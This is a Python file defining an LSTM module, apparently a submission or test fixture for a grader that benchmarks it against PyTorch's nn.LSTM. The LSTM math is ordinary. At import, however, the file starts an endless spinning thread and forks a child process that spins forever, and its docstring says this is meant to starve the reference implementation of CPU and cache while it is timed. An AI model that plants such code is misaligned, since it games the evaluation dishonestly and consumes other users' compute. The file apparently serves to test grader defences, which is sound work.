"""A correct LSTM whose process keeps a thread and a child process spinning, to take the CPU
and its caches from whatever runs beside it: nn.LSTM, timed by the grader while this worker
waits. The grader stops this worker's processes while it times nn.LSTM."""

import os
import threading

import torch
from torch import nn


def _spin():
    x = 0
    while True:
        x += 1


threading.Thread(target=_spin, daemon=True).start()
if os.fork() == 0:
    _spin()


class LSTM(nn.Module):
    def __init__(self, input_size, hidden_size, num_layers=1):
        super().__init__()
        self.rnn = _Plain(input_size, hidden_size, num_layers)

    def forward(self, x, state=None):
        return self.rnn(x, state)


class _Plain(nn.Module):
    def __init__(self, input_size, hidden_size, num_layers):
        super().__init__()
        self.hidden_size, self.num_layers = hidden_size, num_layers
        self.cells = nn.ModuleList()
        for k in range(num_layers):
            cell = nn.Module()
            size = input_size if k == 0 else hidden_size
            cell.weight_ih = nn.Parameter(torch.randn(4 * hidden_size, size) * 0.1)
            cell.weight_hh = nn.Parameter(torch.randn(4 * hidden_size, hidden_size) * 0.1)
            cell.bias_ih = nn.Parameter(torch.zeros(4 * hidden_size))
            cell.bias_hh = nn.Parameter(torch.zeros(4 * hidden_size))
            self.cells.append(cell)

    def forward(self, x, state=None):
        batch, seq_len, _ = x.shape
        if state is None:
            z = x.new_zeros(self.num_layers, batch, self.hidden_size)
            state = (z, z)
        hs, cs = [], []
        for k, cell in enumerate(self.cells):
            h, c = state[0][k], state[1][k]
            pre = x @ cell.weight_ih.T + cell.bias_ih + cell.bias_hh
            outs = []
            for t in range(seq_len):
                i, f, g, o = (pre[:, t] + h @ cell.weight_hh.T).chunk(4, -1)
                c = torch.sigmoid(f) * c + torch.sigmoid(i) * torch.tanh(g)
                h = torch.sigmoid(o) * torch.tanh(c)
                outs.append(h)
            x = torch.stack(outs, 1)
            hs.append(h)
            cs.append(c)
        return x, (torch.stack(hs), torch.stack(cs))
